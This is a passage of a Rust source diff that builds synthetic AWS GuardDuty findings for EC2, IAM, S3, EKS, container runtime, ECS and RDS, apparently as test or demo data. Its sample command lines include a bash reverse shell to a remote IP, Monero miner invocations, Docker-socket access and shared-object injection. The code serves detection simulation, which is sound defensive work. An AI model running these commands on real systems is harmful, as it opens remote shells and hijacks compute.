+        "launchTime": iso_s(before(rng, cx.first_seen, 400)),
+        "platform": if windows { json!("windows") } else { Value::Null },
+        "productCodes": [],
+        "iamInstanceProfile": {
+            "arn": format!("arn:aws:iam::{}:instance-profile/{app}-instance-profile", cx.account),
+            "id": format!("AIPA{}", rng.upper(17)),
+        },
+        "networkInterfaces": [{
+            "ipv6Addresses": [],
+            "networkInterfaceId": format!("eni-{}", rng.hex(17)),
+            "privateDnsName": private_dns,
+            "privateIpAddress": private_ip,
+            "privateIpAddresses": [{ "privateDnsName": private_dns, "privateIpAddress": private_ip }],
+            "subnetId": format!("subnet-{}", rng.hex(17)),
+            "vpcId": format!("vpc-{}", rng.hex(17)),
+            "securityGroups": groups,
+            "publicDnsName": public_dns,
+            "publicIp": public_ip,
+        }],
+        "outpostArn": null,
+        "tags": tags(rng, &name, 6..=11),
+        "instanceState": "running",
+        "availabilityZone": format!("{}{}", cx.region, rng.pick(&["a", "b", "c"])),
+        "imageId": format!("ami-{}", rng.hex(17)),
+        "imageDescription": if windows {
+            "Microsoft Windows Server 2022 Full Locale English AMI provided by Amazon"
+        } else {
+            rng.pick(&[
+                "Amazon Linux 2023 AMI 2023.4.20240401.1 x86_64 HVM kernel-6.1",
+                "Canonical, Ubuntu, 22.04 LTS, amd64 jammy image build on 2024-03-01",
+                "Amazon EKS optimized Amazon Linux 2 AMI, Kubernetes 1.29",
+                "Debian 12 (20240211-1654)",
+            ])
+        },
+    })
+}
+
+fn access_key_details(rng: &mut Rng) -> (Value, &'static str) {
+    let user = USER_NAMES[rng.index(USER_NAMES.len())];
+    let value = if rng.chance(60) {
+        json!({
+            "accessKeyId": format!("ASIA{}", rng.upper(16)),
+            "principalId": format!("AROA{}:{user}", rng.upper(17)),
+            "userName": ROLE_NAMES[rng.index(ROLE_NAMES.len())],
+            "userType": "AssumedRole",
+        })
+    } else {
+        json!({
+            "accessKeyId": format!("AKIA{}", rng.upper(16)),
+            "principalId": format!("AIDA{}", rng.upper(17)),
+            "userName": user,
+            "userType": if user == "root" { "Root" } else { "IAMUser" },
+        })
+    };
+    (value, user)
+}
+
+/// The `service` object every finding has; templates add their own keys to it.
+fn service(cx: &Ctx, feature: &str, action: Value, additional: Value, evidence: Value) -> Value {
+    json!({
+        "serviceName": "guardduty",
+        "detectorId": cx.detector,
+        "featureName": feature,
+        "action": action,
+        "resourceRole": "TARGET",
+        "additionalInfo": additional,
+        "evidence": evidence,
+        "eventFirstSeen": iso_s(cx.first_seen),
+        "eventLastSeen": iso_s(cx.last_seen),
+        "archived": false,
+        "count": cx.count,
+    })
+}
+
+/// `additionalInfo` in its modern shape: the object plus the same object as a JSON string.
+fn additional_info(mut fields: Value) -> Value {
+    let value = fields.to_string();
+    if let Value::Object(map) = &mut fields {
+        map.insert("value".to_owned(), json!(value));
+        map.insert("type".to_owned(), json!("default"));
+    }
+    fields
+}
+
+fn with(mut object: Value, key: &str, value: Value) -> Value {
+    if let Value::Object(map) = &mut object {
+        map.insert(key.to_owned(), value);
+    }
+    object
+}
+
+// --- templates -------------------------------------------------------------------------------
+
+fn ec2_port_probe(rng: &mut Rng, cx: &Ctx) -> Body {
+    let instance = instance_id(rng);
+    let local_ip = rng.private_ip();
+    let ports: [(u64, &str); 8] = [
+        (22, "SSH"),
+        (3389, "RDP"),
+        (80, "HTTP"),
+        (443, "HTTPS"),
+        (5432, "POSTGRESQL"),
+        (3306, "MYSQL"),
+        (6379, "Unknown"),
+        (9200, "Unknown"),
+    ];
+    let probes: Vec<Value> = (0..rng.range(2, 4))
+        .map(|_| {
+            let (port, name) = ports[rng.index(ports.len())];
+            let ip = rng.public_ip();
+            json!({
+                "localPortDetails": { "port": port, "portName": name },
+                "localIpDetails": { "ipAddressV4": local_ip },
+                "remoteIpDetails": remote_ip_details(rng, &ip),
+            })
+        })
+        .collect();
+    let action = json!({
+        "actionType": "PORT_PROBE",
+        "portProbeAction": { "blocked": false, "portProbeDetails": probes },
+    });
+    let additional =
+        additional_info(json!({ "threatName": "Scanner", "threatListName": "ProofPoint" }));
+    Body {
+        kind: "Recon:EC2/PortProbeUnprotectedPort".to_owned(),
+        severity: {
+            let base = if rng.chance(70) { 2 } else { 5 };
+            severity(rng, base)
+        },
+        title: format!("Unprotected port on EC2 instance {instance} is being probed."),
+        description: format!(
+            "EC2 instance {instance} has an unprotected port which is being probed by a known malicious host. \
+             The security group attached to the instance allows inbound traffic on this port from 0.0.0.0/0; \
+             restrict it to the addresses that need it, or put the service behind a load balancer or AWS \
+             Systems Manager Session Manager."
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
+        service: service(cx, "FlowLogs", action, additional, threat_intel(rng)),
+    }
+}
+
+fn ec2_inbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
+    let instance = instance_id(rng);
+    let remote = rng.public_ip();
+    let (kind, port, port_name, base) = rng.pick(&[
+        ("UnauthorizedAccess:EC2/SSHBruteForce", 22u64, "SSH", 2u64),
+        ("UnauthorizedAccess:EC2/RDPBruteForce", 3389, "RDP", 5),
+        ("Impact:EC2/PortSweep", 445, "SMB", 8),
+    ]);
+    let action = json!({
+        "actionType": "NETWORK_CONNECTION",
+        "networkConnectionAction": {
+            "connectionDirection": "INBOUND",
+            "blocked": false,
+            "protocol": "TCP",
+            "localIpDetails": { "ipAddressV4": rng.private_ip() },
+            "localPortDetails": { "port": port, "portName": port_name },
+            "remotePortDetails": { "port": rng.range(32768, 60999), "portName": "Unknown" },
+            "remoteIpDetails": remote_ip_details(rng, &remote),
+        },
+    });
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!(
+            "{remote} is performing {port_name} brute force attacks against {instance}."
+        ),
+        description: format!(
+            "{remote} is performing {port_name} brute force attacks against {instance}. Brute force attacks are \
+             used to gain unauthorized access to your instance by guessing the {port_name} password. If the \
+             instance is not meant to accept {port_name} connections from the internet, remove the rule that \
+             allows them from its security group; otherwise check its authentication logs for a success."
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
+        service: service(
+            cx,
+            "FlowLogs",
+            action,
+            additional_info(json!({})),
+            Value::Null,
+        ),
+    }
+}
+
+fn ec2_outbound_connection(rng: &mut Rng, cx: &Ctx) -> Body {
+    let instance = instance_id(rng);
+    let remote = rng.public_ip();
+    let (kind, port, base, what) = rng.pick(&[
+        (
+            "Backdoor:EC2/C&CActivity.B",
+            443u64,
+            8u64,
+            "a known command and control server",
+        ),
+        (
+            "CryptoCurrency:EC2/BitcoinTool.B",
+            3333,
+            5,
+            "an IP address associated with cryptocurrency mining",
+        ),
+        (
+            "UnauthorizedAccess:EC2/TorClient",
+            9001,
+            8,
+            "a Tor Guard or Authority node",
+        ),
+        (
+            "Trojan:EC2/BlackholeTraffic",
+            80,
+            5,
+            "a black hole IP address",
+        ),
+    ]);
+    let action = json!({
+        "actionType": "NETWORK_CONNECTION",
+        "networkConnectionAction": {
+            "connectionDirection": "OUTBOUND",
+            "blocked": false,
+            "protocol": "TCP",
+            "localIpDetails": { "ipAddressV4": rng.private_ip() },
+            "localPortDetails": { "port": rng.range(32768, 60999), "portName": "Unknown" },
+            "remotePortDetails": { "port": port, "portName": if port == 443 { "HTTPS" } else { "Unknown" } },
+            "remoteIpDetails": remote_ip_details(rng, &remote),
+        },
+    });
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("EC2 instance {instance} is communicating with {what}."),
+        description: format!(
+            "EC2 instance {instance} is communicating with {remote}, {what}. This can mean the instance is \
+             compromised and is receiving instructions or sending data; isolate it by moving it to a security \
+             group without egress, take a snapshot of its volumes for investigation, and rotate any credentials \
+             it could reach."
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
+        service: service(
+            cx,
+            "FlowLogs",
+            action,
+            additional_info(json!({ "threatListName": "ProofPoint" })),
+            threat_intel(rng),
+        ),
+    }
+}
+
+fn ec2_dns_request(rng: &mut Rng, cx: &Ctx) -> Body {
+    let instance = instance_id(rng);
+    let label_len = 6 + rng.index(20);
+    let domain = format!(
+        "{}.{}",
+        rng.hex(label_len),
+        DOMAINS[rng.index(DOMAINS.len())]
+    );
+    let (kind, base) = rng.pick(&[
+        ("CryptoCurrency:EC2/BitcoinTool.B!DNS", 8u64),
+        ("Trojan:EC2/DropPoint!DNS", 5),
+        ("Trojan:EC2/DNSDataExfiltration", 8),
+        ("Backdoor:EC2/C&CActivity.B!DNS", 8),
+        ("Impact:EC2/SuspiciousDomainRequest.Reputation", 2),
+    ]);
+    let action = json!({
+        "actionType": "DNS_REQUEST",
+        "dnsRequestAction": {
+            "domain": domain,
+            "domainWithSuffix": domain.split('.').rev().take(2).collect::<Vec<_>>().into_iter().rev().collect::<Vec<_>>().join("."),
+            "protocol": "UDP",
+            "blocked": false,
+        },
+    });
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("EC2 instance {instance} is querying a suspicious domain name."),
+        description: format!(
+            "EC2 instance {instance} is querying the domain name {domain}, which is associated with {}. \
+             Check which process on the instance resolved it (GuardDuty Runtime Monitoring or the VPC \
+             Route 53 Resolver query logs show it), and whether that software is expected to run there.",
+            if kind.starts_with("Crypto") {
+                "cryptocurrency-related activity"
+            } else {
+                "malware command and control"
+            }
+        ),
+        resource: json!({ "resourceType": "Instance", "instanceDetails": instance_details(rng, cx, &instance) }),
+        service: service(
+            cx,
+            "DnsLogs",
+            action,
+            additional_info(json!({ "domain": domain })),
+            threat_intel(rng),
+        ),
+    }
+}
+
+fn api_call(rng: &mut Rng, api: &str, service_name: &str, ip: &str, user_agent: &str) -> Value {
+    let mut call = json!({
+        "api": api,
+        "serviceName": service_name,
+        "callerType": "Remote IP",
+        "userAgent": user_agent,
+        "remoteIpDetails": remote_ip_details(rng, ip),
+        "affectedResources": {},
+    });
+    if rng.chance(25) {
+        call = with(call, "errorCode", json!("AccessDenied"));
+    }
+    json!({ "actionType": "AWS_API_CALL", "awsApiCallAction": call })
+}
+
+fn access_key_anomaly(rng: &mut Rng, cx: &Ctx) -> Body {
+    let (key, user) = access_key_details(rng);
+    let ip = rng.public_ip();
+    let agent = USER_AGENTS[rng.index(USER_AGENTS.len())];
+    let (kind, api, svc, base) = rng.pick(&[
+        (
+            "Discovery:IAMUser/AnomalousBehavior",
+            "ListAttachedRolePolicies",
+            "iam.amazonaws.com",
+            2u64,
+        ),
+        (
+            "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
+            "DescribeInstances",
+            "ec2.amazonaws.com",
+            8,
+        ),
+        (
+            "CredentialAccess:IAMUser/AnomalousBehavior",
+            "GetSecretValue",
+            "secretsmanager.amazonaws.com",
+            5,
+        ),
+        (
+            "Persistence:IAMUser/AnomalousBehavior",
+            "CreateAccessKey",
+            "iam.amazonaws.com",
+            5,
+        ),
+        (
+            "InitialAccess:IAMUser/AnomalousBehavior",
+            "ConsoleLogin",
+            "signin.amazonaws.com",
+            5,
+        ),
+    ]);
+    let apis = [
+        "ListUsers",
+        "ListRoles",
+        "GetAccountAuthorizationDetails",
+        "ListBuckets",
+        "DescribeInstances",
+        api,
+    ];
+    let additional = additional_info(json!({
+        "anomalies": {
+            "anomalousAPIs": format!("{svc}:{{{}}}", apis[rng.index(apis.len())..].join(", ")),
+        },
+        "profiledBehavior": {
+            "rareProfiledAPIsAccountProfiling": apis[..3].join(", "),
+            "infrequentProfiledUserAgentsAccountProfiling": "aws-internal/3, console.amazonaws.com",
+            "frequentProfiledASNsAccountProfiling": "16509",
+            "rareProfiledUserAgentsUserIdentityProfiling": agent,
+            "numberOfHistoricalDailyAvgAPIsUserIdentityProfiling": rng.range(20, 900).to_string(),
+        },
+        "unusualBehavior": {
+            "isUnusualUserIdentity": rng.chance(50).to_string(),
+            "unusualASNsUserIdentity": GEOS[rng.index(GEOS.len())].asn,
+            "unusualUserAgentsUserIdentity": agent,
+        },
+        "userAgent": { "fullUserAgent": agent, "userAgentCategory": if agent.contains("kali") { "KALI_LINUX" } else { "CLI" } },
+    }));
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!(
+            "The API {api} was invoked using credentials of {user} in an anomalous way."
+        ),
+        description: format!(
+            "APIs commonly used to {} were invoked by {user} under unusual circumstances, from {ip} with user \
+             agent {agent}. Such activity is not typically seen from this principal: confirm with its owner, and if \
+             it was not them, deactivate the access key, revoke active sessions and review CloudTrail for what \
+             else the key did.",
+            kind.split(':').next().unwrap_or("act")
+        ),
+        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key }),
+        service: service(
+            cx,
+            "CloudTrail",
+            api_call(rng, api, svc, &ip, agent),
+            additional,
+            Value::Null,
+        ),
+    }
+}
+
+fn access_key_stealth(rng: &mut Rng, cx: &Ctx) -> Body {
+    let (key, user) = access_key_details(rng);
+    let ip = rng.public_ip();
+    let (kind, api, svc, base, agent) = rng.pick(&[
+        (
+            "Stealth:IAMUser/CloudTrailLoggingDisabled",
+            "StopLogging",
+            "cloudtrail.amazonaws.com",
+            2u64,
+            USER_AGENTS[0],
+        ),
+        (
+            "PenTest:IAMUser/KaliLinux",
+            "GetCallerIdentity",
+            "sts.amazonaws.com",
+            5,
+            USER_AGENTS[1],
+        ),
+        (
+            "Policy:IAMUser/RootCredentialUsage",
+            "DescribeRegions",
+            "ec2.amazonaws.com",
+            2,
+            USER_AGENTS[5],
+        ),
+        (
+            "Stealth:IAMUser/PasswordPolicyChange",
+            "DeleteAccountPasswordPolicy",
+            "iam.amazonaws.com",
+            2,
+            USER_AGENTS[2],
+        ),
+        (
+            "UnauthorizedAccess:IAMUser/TorIPCaller",
+            "ListBuckets",
+            "s3.amazonaws.com",
+            5,
+            USER_AGENTS[6],
+        ),
+    ]);
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("API {api} was invoked by {user} from {ip}."),
+        description: format!(
+            "The API {api} of {svc} was invoked by {user} from {ip} using {agent}. Calls like this one are \
+             used to evade detection or probe an account; if this was not a planned change or an authorised \
+             penetration test, treat the credentials as compromised."
+        ),
+        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key }),
+        service: service(
+            cx,
+            "CloudTrail",
+            api_call(rng, api, svc, &ip, agent),
+            additional_info(
+                json!({ "userAgent": { "fullUserAgent": agent, "userAgentCategory": "CLI" } }),
+            ),
+            Value::Null,
+        ),
+    }
+}
+
+fn block_public_access(all: bool) -> Value {
+    json!({ "blockPublicAcls": all, "blockPublicPolicy": all, "ignorePublicAcls": all, "restrictPublicBuckets": all })
+}
+
+fn s3_bucket(rng: &mut Rng, cx: &Ctx) -> Body {
+    let (key, user) = access_key_details(rng);
+    let app = APPS[rng.index(APPS.len())];
+    let bucket = format!(
+        "{app}-{}-{}-{}",
+        rng.pick(&["logs", "artifacts", "exports", "backups", "uploads"]),
+        cx.account,
+        cx.region
+    );
+    let ip = rng.public_ip();
+    let (kind, api, base) = rng.pick(&[
+        (
+            "Policy:S3/BucketBlockPublicAccessDisabled",
+            "PutBucketPublicAccessBlock",
+            2u64,
+        ),
+        ("Exfiltration:S3/AnomalousBehavior", "GetObject", 8),
+        ("UnauthorizedAccess:S3/TorIPCaller", "ListObjects", 5),
+        ("Impact:S3/MaliciousIPCaller", "DeleteObjects", 8),
+        ("Discovery:S3/AnomalousBehavior", "GetBucketPolicy", 2),
+    ]);
+    let public = kind.starts_with("Policy");
+    let bucket_details = json!({
+        "arn": format!("arn:aws:s3:::{bucket}"),
+        "name": bucket,
+        "type": "Destination",
+        "createdAt": epoch_before(rng, cx.first_seen, 1500),
+        "owner": { "id": rng.hex(64) },
+        "tags": tags(rng, &bucket, 5..=11),
+        "defaultServerSideEncryption": {
+            "encryptionType": "aws:kms",
+            "kmsMasterKeyArn": format!("arn:aws:kms:{}:{}:key/{}-{}-{}-{}-{}", cx.region, cx.account, rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+        },
+        "publicAccess": {
+            "effectivePermission": if public { "PUBLIC" } else { "NOT_PUBLIC" },
+            "permissionConfiguration": {
+                "bucketLevelPermissions": {
+                    "accessControlList": { "allowsPublicReadAccess": false, "allowsPublicWriteAccess": false },
+                    "bucketPolicy": { "allowsPublicReadAccess": public, "allowsPublicWriteAccess": false },
+                    "blockPublicAccess": block_public_access(!public),
+                },
+                "accountLevelPermissions": { "blockPublicAccess": block_public_access(false) },
+            },
+        },
+    });
+    let agent = USER_AGENTS[rng.index(USER_AGENTS.len())];
+    let mut action = api_call(rng, api, "s3.amazonaws.com", &ip, agent);
+    action["awsApiCallAction"]["affectedResources"] = json!({ "AWS::S3::Bucket": bucket });
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("{api} was called on S3 bucket {bucket} by {user}."),
+        description: format!(
+            "The S3 API {api} was invoked by {user} from {ip} against bucket {bucket}, in an unusual way for this \
+             principal and bucket. Review the bucket's access logs and CloudTrail data events for the objects that \
+             were read or changed, and block the caller if the activity was not expected."
+        ),
+        resource: json!({ "resourceType": "S3Bucket", "accessKeyDetails": key, "s3BucketDetails": [bucket_details] }),
+        service: service(
+            cx,
+            "S3DataEvents",
+            action,
+            additional_info(json!({})),
+            Value::Null,
+        ),
+    }
+}
+
+fn eks_cluster_details(rng: &mut Rng, cx: &Ctx, cluster: &str) -> Value {
+    json!({
+        "name": cluster,
+        "arn": format!("arn:aws:eks:{}:{}:cluster/{cluster}", cx.region, cx.account),
+        "createdAt": epoch_before(rng, cx.first_seen, 700),
+        "vpcId": format!("vpc-{}", rng.hex(17)),
+        "status": "ACTIVE",
+        "tags": tags(rng, cluster, 4..=9),
+    })
+}
+
+fn eks_audit(rng: &mut Rng, cx: &Ctx) -> Body {
+    let cluster = format!(
+        "{}-{}",
+        rng.pick(&["prod", "staging", "shared", "ml"]),
+        rng.pick(&["eks", "k8s", "platform"])
+    );
+    let ip = rng.public_ip();
+    let (kind, verb, uri, base) = rng.pick(&[
+        ("Discovery:Kubernetes/SuccessfulAnonymousAccess", "get", "/api/v1/namespaces/kube-system/secrets", 5u64),
+        ("PrivilegeEscalation:Kubernetes/PrivilegedContainer", "create", "/api/v1/namespaces/default/pods", 5),
+        ("Execution:Kubernetes/ExecInKubeSystemPod", "create", "/api/v1/namespaces/kube-system/pods/aws-node-7xk2p/exec?command=sh&command=-c&command=id&stdin=true", 5),
+        ("Persistence:Kubernetes/ContainerWithSensitiveMount", "create", "/apis/apps/v1/namespaces/default/deployments", 5),
+        ("Impact:Kubernetes/MaliciousIPCaller", "list", "/api/v1/secrets", 8),
+    ]);
+    let workload = format!("{}-{}", APPS[rng.index(APPS.len())], rng.hex(5));
+    let user = if kind.starts_with("Discovery") {
+        "system:anonymous".to_owned()
+    } else {
+        format!(
+            "arn:aws:sts::{}:assumed-role/{}/{}",
+            cx.account,
+            ROLE_NAMES[rng.index(ROLE_NAMES.len())],
+            USER_NAMES[rng.index(USER_NAMES.len())]
+        )
+    };
+    let kubernetes = json!({
+        "kubernetesUserDetails": {
+            "username": user,
+            "uid": format!("aws-iam-authenticator:{}:{}", cx.account, rng.upper(21)),
+            "groups": ["system:authenticated", "system:masters"],
+        },
+        "kubernetesWorkloadDetails": {
+            "name": workload,
+            "type": "pods",
+            "uid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+            "namespace": rng.pick(&["default", "kube-system", "payments", "monitoring"]),
+            "hostNetwork": rng.chance(20),
+            "containers": [{
+                "name": "app",
+                "image": format!("{}.dkr.ecr.{}.amazonaws.com/{}:{}", cx.account, cx.region, APPS[rng.index(APPS.len())], rng.hex(7)),
+                "imagePrefix": format!("{}.dkr.ecr.{}.amazonaws.com", cx.account, cx.region),
+                "securityContext": { "privileged": kind.contains("Privileged") },
+                "volumeMounts": [{ "name": "host-root", "mountPath": "/host" }],
+            }],
+            "volumes": [{ "name": "host-root", "hostPath": { "path": "/" } }],
+        },
+    });
+    let action = json!({
+        "actionType": "KUBERNETES_API_CALL",
+        "kubernetesApiCallAction": {
+            "requestUri": uri,
+            "verb": verb,
+            "sourceIps": [ip],
+            "userAgent": format!("kubectl/v1.29.{} (linux/amd64) kubernetes/{}", rng.below(8), rng.hex(7)),
+            "remoteIpDetails": remote_ip_details(rng, &ip),
+            "statusCode": if rng.chance(80) { 200 } else { 403 },
+            "parameters": "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"debug\"},\"spec\":{\"hostPID\":true}}",
+        },
+    });
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("Kubernetes API {verb} {uri} invoked on EKS cluster {cluster}."),
+        description: format!(
+            "The Kubernetes API {verb} {uri} was invoked on EKS cluster {cluster} by {user} from {ip}. This API is \
+             commonly used in {} tactics. Check the cluster's audit log for the rest of this user's requests \
+             and the workload {workload} it touched.",
+            kind.split(':').next().unwrap_or("attack")
+        ),
+        resource: json!({
+            "resourceType": "EKSCluster",
+            "eksClusterDetails": eks_cluster_details(rng, cx, &cluster),
+            "kubernetesDetails": kubernetes,
+        }),
+        service: service(
+            cx,
+            "EksAuditLogs",
+            action,
+            additional_info(json!({})),
+            Value::Null,
+        ),
+    }
+}
+
+fn container_runtime(rng: &mut Rng, cx: &Ctx) -> Body {
+    let domain = DOMAINS[rng.index(DOMAINS.len())];
+    let (kind, exe, command_line, base) = rng.pick(&[
+        ("Execution:Runtime/NewBinaryExecuted", "/tmp/.x/kworkerd", "/tmp/.x/kworkerd -o pool.supportxmr.com:443 -u 4AdUndXHHZ9pfQj27iMAjAr --tls --cpu-max-threads-hint=75", 5u64),
+        ("CryptoCurrency:Runtime/BitcoinTool.B!DNS", "/usr/bin/xmrig", "xmrig --donate-level 1 -o gulf.moneroocean.stream:10128 -k --coin monero", 8),
+        ("Execution:Runtime/ReverseShell", "/bin/bash", "bash -c \"bash -i >& /dev/tcp/185.220.101.7/4444 0>&1\"", 8),
+        ("PrivilegeEscalation:Runtime/DockerSocketAccessed", "/usr/bin/curl", "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json?all=1", 5),
+        ("DefenseEvasion:Runtime/ProcessInjection.Proc", "/usr/bin/python3", "python3 -c 'import ctypes; ctypes.CDLL(\"/dev/shm/.l.so\")'", 8),
+    ]);
+    let pid = rng.range(300, 65_000);
+    let parent = format!(
+        "{}-{}-{}-{}-{}",
+        rng.hex(8),
+        rng.hex(4),
+        rng.hex(4),
+        rng.hex(4),
+        rng.hex(12)
+    );
+    let lineage: Vec<Value> = [("containerd-shim", "/usr/bin/containerd-shim-runc-v2"), ("sh", "/bin/sh"), ("node", "/usr/local/bin/node")]
+        .iter()
+        .map(|(name, path)| {
+            json!({
+                "name": name,
+                "executablePath": path,
+                "pid": rng.range(1, 65_000),
+                "namespacePid": rng.range(1, 300),
+                "uuid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+                "parentUuid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+                "euid": 0,
+                "userId": 0,
+                "startTime": iso_s(before(rng, cx.first_seen, 3)),
+            })
+        })
+        .collect();
+    let runtime = json!({
+        "process": {
+            "name": exe.rsplit('/').next().unwrap_or(exe),
+            "executablePath": exe,
+            "executableSha256": rng.hex(64),
+            "commandLine": command_line,
+            "pid": pid,
+            "namespacePid": rng.range(1, 300),
+            "euid": 0,
+            "userId": 0,
+            "user": "root",
+            "pwd": rng.pick(&["/app", "/", "/tmp", "/var/www/html"]),
+            "uuid": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+            "parentUuid": parent,
+            "startTime": iso_s(cx.first_seen - 5),
+            "lineage": lineage,
+        },
+        "context": {
+            "commandLineExample": command_line,
+            "socketPath": if kind.contains("Docker") { json!("/var/run/docker.sock") } else { Value::Null },
+        },
+    });
+    let app = APPS[rng.index(APPS.len())];
+    let image = format!(
+        "{}.dkr.ecr.{}.amazonaws.com/{app}:{}.{}.{}",
+        cx.account,
+        cx.region,
+        rng.below(5),
+        rng.below(40),
+        rng.below(10)
+    );
+    let container = json!({
+        "containerRuntime": "containerd",
+        "id": rng.hex(64),
+        "name": app,
+        "image": image,
+        "imagePrefix": format!("{}.dkr.ecr.{}.amazonaws.com", cx.account, cx.region),
+        "securityContext": { "privileged": rng.chance(15), "allowPrivilegeEscalation": rng.chance(40) },
+        "volumeMounts": [{ "name": "tmp", "mountPath": "/tmp" }, { "name": "config", "mountPath": "/etc/app" }],
+    });
+    let instance = instance_id(rng);
+    let service = with(
+        service(
+            cx,
+            "RuntimeMonitoring",
+            json!({}),
+            additional_info(json!({ "domain": domain })),
+            Value::Null,
+        ),
+        "runtimeDetails",
+        runtime,
+    );
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("A suspicious process {exe} ran in container {app} on instance {instance}."),
+        description: format!(
+            "Process {exe} (pid {pid}) ran with the command line `{command_line}` in container {app} (image {image}). \
+             Runtime Monitoring flagged it because it matches {}; check how it got into the container, replace \
+             the container from a known-good image, and rotate any credentials it could read.",
+            kind
+        ),
+        resource: json!({
+            "resourceType": "Container",
+            "containerDetails": container,
+            "instanceDetails": instance_details(rng, cx, &instance),
+        }),
+        service,
+    }
+}
+
+fn ecs_cluster(rng: &mut Rng, cx: &Ctx) -> Body {
+    let cluster = format!(
+        "{}-{}",
+        APPS[rng.index(APPS.len())],
+        rng.pick(&["prod", "staging", "batch"])
+    );
+    let task = rng.hex(32);
+    let started = before(rng, cx.first_seen, 2);
+    let threat = rng.pick(&[
+        "EICAR-Test-File",
+        "Linux.Trojan.Mirai",
+        "Multios.Coinminer.Miner-6781728-2",
+        "Unix.Malware.Kaiji",
+    ]);
+    let files: Vec<Value> = (0..rng.range(1, 3))
+        .map(|i| {
+            let name = format!("{}.bin", rng.hex(8));
+            json!({
+                "filePath": format!("var/lib/docker/overlay2/{}/diff/tmp/{name}", rng.hex(64)),
+                "fileName": name,
+                "volumeArn": format!("arn:aws:ec2:{}:{}:volume/vol-{}", cx.region, cx.account, rng.hex(17)),
+                "hash": rng.hex(64),
+                "index": i,
+            })
+        })
+        .collect();
+    let item_count = files.len();
+    let resource = json!({
+        "resourceType": "ECSCluster",
+        "ecsClusterDetails": {
+            "name": cluster,
+            "arn": format!("arn:aws:ecs:{}:{}:cluster/{cluster}", cx.region, cx.account),
+            "status": "ACTIVE",
+            "activeServicesCount": rng.range(1, 40),
+            "registeredContainerInstancesCount": rng.range(0, 20),
+            "runningTasksCount": rng.range(1, 200),
+            "tags": tags(rng, &cluster, 4..=8),
+            "taskDetails": {
+                "arn": format!("arn:aws:ecs:{}:{}:task/{cluster}/{task}", cx.region, cx.account),
+                "definitionArn": format!("arn:aws:ecs:{}:{}:task-definition/{cluster}:{}", cx.region, cx.account, rng.range(1, 300)),
+                "version": rng.range(1, 300).to_string(),
+                "createdAt": epoch_float(rng, started),
+                "startedAt": epoch_float(rng, started + 20),
+                "startedBy": format!("ecs-svc/{}", rng.range(1_000_000_000_000_000, 9_999_999_999_999_999)),
+                "containers": [{ "name": "app", "image": format!("{}.dkr.ecr.{}.amazonaws.com/{cluster}:latest", cx.account, cx.region) }],
+            },
+        },
+    });
+    let scan = json!({
+        "scanId": rng.hex(32),
+        "scanStartedAt": epoch_float(rng, cx.first_seen),
+        "scanCompletedAt": epoch_float(rng, cx.first_seen + 400),
+        "scanType": "GUARDDUTY_INITIATED",
+        "triggerFindingId": rng.hex(32),
+        "sources": ["Bitdefender", "Amazon"],
+        "scanDetections": {
+            "scannedItemCount": { "totalGb": rng.range(1, 200), "files": rng.range(10_000, 900_000), "volumes": 1 },
+            "threatsDetectedItemCount": { "files": item_count },
+            "highestSeverityThreatDetails": { "severity": "HIGH", "threatName": threat, "count": item_count },
+            "threatDetectedByName": {
+                "itemCount": item_count,
+                "uniqueThreatNameCount": 1,
+                "shortened": false,
+                "threatNames": [{ "name": threat, "severity": "HIGH", "itemCount": item_count, "filePaths": files }],
+            },
+        },
+    });
+    let service = with(
+        service(
+            cx,
+            "EbsVolumeScan",
+            json!({}),
+            additional_info(json!({})),
+            Value::Null,
+        ),
+        "ebsVolumeScanDetails",
+        scan,
+    );
+    Body {
+        kind: "Execution:ECS/MaliciousFile".to_owned(),
+        severity: severity(rng, 8),
+        title: format!(
+            "{item_count} security risk(s) detected including {threat} on ECS cluster {cluster}."
+        ),
+        description: format!(
+            "A malware scan of the volumes behind task {task} of ECS cluster {cluster} found {item_count} file(s) \
+             matching {threat}. Stop the task, find out how the file got into the image or the volume, and \
+             redeploy from a clean image."
+        ),
+        resource,
+        service,
+    }
+}
+
+fn rds_login(rng: &mut Rng, cx: &Ctx) -> Body {
+    let ip = rng.public_ip();
+    let db = format!(
+        "{}-{}",
+        APPS[rng.index(APPS.len())],
+        rng.pick(&["db", "primary", "replica-1", "aurora-cluster-instance-1"])
+    );
+    let user = rng.pick(&["postgres", "admin", "app_rw", "reporting_ro", "sa"]);
+    let (engine, version) = rng.pick(&[
+        ("aurora-postgresql", "15.4"),
+        ("postgres", "16.2"),
+        ("aurora-mysql", "8.0.mysql_aurora.3.05.2"),
+        ("mysql", "8.0.36"),
+    ]);
+    let (kind, base, success) = rng.pick(&[
+        (
+            "CredentialAccess:RDS/AnomalousBehavior.SuccessfulLogin",
+            8u64,
+            true,
+        ),
+        (
+            "CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce",
+            8,
+            true,
+        ),
+        (
